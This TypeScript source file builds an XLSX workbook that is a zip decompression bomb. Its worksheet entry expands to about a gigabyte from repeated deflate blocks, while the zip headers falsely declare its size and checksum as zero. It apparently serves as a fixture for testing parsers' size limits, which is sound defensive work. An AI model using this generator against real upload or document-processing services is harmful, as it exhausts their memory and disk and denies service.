import { constants, crc32, deflateRawSync } from 'node:zlib';

/** A workbook whose sheet says one piece of XML over and over, until it fills so many bytes. */
export function bomb(piece: string, bytes = 1e9): Uint8Array {
  const block = Buffer.from(piece.repeat(Math.ceil(1e6 / piece.length)));
  // Blocks that end flushed know nothing of each other: the packed form of one stands for them all.
  const packed = deflateRawSync(block, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const times = Math.ceil(bytes / block.length);
  const sheet = Buffer.concat([
    deflateRawSync('<worksheet><sheetData>', { finishFlush: constants.Z_FULL_FLUSH }),
    ...Array.from({ length: times }, () => packed),
    deflateRawSync('</sheetData></worksheet>'),
  ]);
  return zip([
    stored('[Content_Types].xml', '<Types/>'),
    stored(
      'xl/workbook.xml',
      '<workbook xmlns:r="r"><sheets><sheet name="a" r:id="rId1"/></sheets></workbook>',
    ),
    stored(
      'xl/_rels/workbook.xml.rels',
      '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    // It claims to be empty once unpacked.
    { name: 'xl/worksheets/sheet1.xml', method: 8, bytes: sheet, unpacked: 0, check: 0 },
  ]);
}

interface Part {
  readonly name: string;
  readonly method: number;
  readonly bytes: Buffer;
  readonly unpacked: number;
  readonly check: number;
}

function stored(name: string, text: string): Part {
  const bytes = Buffer.from(text);
  return { name, method: 0, bytes, unpacked: bytes.length, check: crc32(bytes) };
}

/** An archive that says what it is told to say of its parts. */
function zip(parts: readonly Part[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, method, bytes, unpacked, check } of parts) {
    const sizes = [
      u16(0),
      u16(method),
      u32(0),
      u32(check),
      u32(bytes.length),
      u32(unpacked),
      u16(name.length),
      u16(0),
    ];
    const local = Buffer.concat([u32(0x04034b50), u16(20), ...sizes, Buffer.from(name), bytes]);
    locals.push(local);
    centrals.push(
      Buffer.concat([
        u32(0x02014b50),
        u16(20),
        u16(20),
        ...sizes,
        u16(0),
        u16(0),
        u16(0),
        u32(0),
        u32(offset),
        Buffer.from(name),
      ]),
    );
    offset += local.length;
  }
  const central = Buffer.concat(centrals);
  const count = u16(parts.length);
  return Buffer.concat([
    ...locals,
    central,
    ...[u32(0x06054b50), u16(0), u16(0), count, count, u32(central.length), u32(offset), u16(0)],
  ]);
}

function u16(value: number): Buffer {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16LE(value);
  return bytes;
}

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
}
